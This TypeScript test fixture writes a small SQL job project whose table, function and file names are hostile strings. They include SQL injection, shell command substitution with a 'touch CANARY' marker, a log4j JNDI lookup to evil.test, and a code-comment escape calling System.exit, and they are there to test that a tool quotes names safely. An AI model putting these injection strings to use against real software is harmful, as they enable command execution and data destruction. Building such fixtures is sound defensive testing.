/** A project whose names would do harm if any language of a bundle took them for more than names. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

const SINK = "'; DROP TABLE x;-- `$(touch CANARY)`";
// biome-ignore lint/suspicious/noTemplateCurlyInString: a name that log4j would have followed
const KEYED = '${jndi:ldap://evil.test/a} " \\';
const FUNCTION = '*/ static { System.exit(1); } /*';
const DATA = "data/$(touch CANARY) it's.csv";
const CODE = "operators/evil;touch CANARY 'x' $(touch CANARY).ts";

const name = (text: string): string => `\`${text.replaceAll('`', '``')}\``;
const text = (value: string): string => `'${value.replaceAll("'", "''")}'`;

/** Names of its sinks, as `verify` prints them. */
export const HOSTILE_SINKS: readonly string[] = [SINK, KEYED];

/** Writes the project into a folder. */
export function writeHostileProject(folder: string): void {
  const files = {
    'job.sql': `CREATE TABLE src (k STRING, ${name(SINK)} INT)
  WITH ('connector' = 'filesystem', 'path' = ${text(DATA)}, 'format' = 'csv');
CREATE TEMPORARY TABLE ${name(SINK)} (${name(FUNCTION)} STRING, m MAP<STRING, INT>, b BYTES) WITH ('connector' = 'blackhole');
CREATE TABLE ${name(KEYED)} (k STRING, n BIGINT NOT NULL, PRIMARY KEY (k) NOT ENFORCED) WITH ('connector' = 'print');
CREATE TEMPORARY FUNCTION ${name(FUNCTION)} AS ${text(CODE)} LANGUAGE TYPESCRIPT;
EXECUTE STATEMENT SET BEGIN
  INSERT INTO ${name(SINK)} SELECT ${name(FUNCTION)}(k), MAP['z', 1, 'a', ${name(SINK)}], ENCODE(k, 'UTF-8') FROM src;
  INSERT INTO ${name(KEYED)} SELECT k, COUNT(*) FROM src GROUP BY k;
END;
`,
    [DATA]: 'a,1\n"; DROP TABLE ö",2\na,3\n',
    [CODE]: `import { scalar, t } from 'millrace';
export default scalar({ args: { k: t.string() }, returns: t.string(), eval: ({ k }) => k + '*/ \\u0022 😀' });
`,
  };
  for (const [path, content] of Object.entries(files)) {
    const target = join(folder, path);
    mkdirSync(dirname(target), { recursive: true });
    writeFileSync(target, content);
  }
}
